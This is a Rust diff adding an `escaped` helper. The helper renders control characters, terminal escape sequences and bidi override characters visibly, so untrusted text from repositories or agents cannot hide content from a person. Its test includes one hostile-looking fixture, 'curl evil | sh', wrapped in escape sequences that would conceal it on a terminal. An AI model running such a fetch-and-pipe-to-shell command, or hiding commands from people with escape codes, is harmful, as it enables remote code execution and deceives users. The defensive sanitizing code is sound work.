@@ -30,6 +30,35 @@ pub fn printable(s: &str) -> Cow<'_, str> {
     Cow::Owned(out)
 }
 
+/// Text from a repository, an agent or a file name, shown to a person who must see exactly what
+/// it holds: control characters, escape sequences and bidi overrides are written out escaped
+/// (`\e[8m`, `\n`, `\u{202e}`), never sent to the terminal, so nothing can be hidden or
+/// reordered in what the person reads before trusting it.
+pub fn escaped(s: &str) -> Cow<'_, str> {
+    let hidden = |c: char| is_unsafe(c) || is_bidi(c);
+    if !s.chars().any(hidden) {
+        return Cow::Borrowed(s);
+    }
+    let mut out = String::with_capacity(s.len() + 8);
+    for c in s.chars() {
+        match c {
+            '\u{1b}' => out.push_str("\\e"),
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            c if hidden(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
+            c => out.push(c),
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Characters that reorder or hide the text around them (bidi embeddings, overrides, isolates
+/// and marks).
+fn is_bidi(c: char) -> bool {
+    matches!(c, '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
 fn is_unsafe(c: char) -> bool {
     c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')
 }
@@ -215,6 +244,17 @@ pub fn first_line(s: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn escaped_shows_what_would_be_hidden() {
+        assert_eq!(escaped("npm ci"), "npm ci");
+        assert_eq!(
+            escaped("\u{1b}]0;PWNED\u{7}npm ci\u{1b}[8m; curl evil | sh"),
+            "\\e]0;PWNED\\u{7}npm ci\\e[8m; curl evil | sh"
+        );
+        assert_eq!(escaped("a\u{202e}b\nc"), "a\\u{202e}b\\nc");
+        assert!(!escaped("\u{9b}31m").chars().any(|c| c.is_control()));
+    }
 
     #[test]
     fn cutting() {
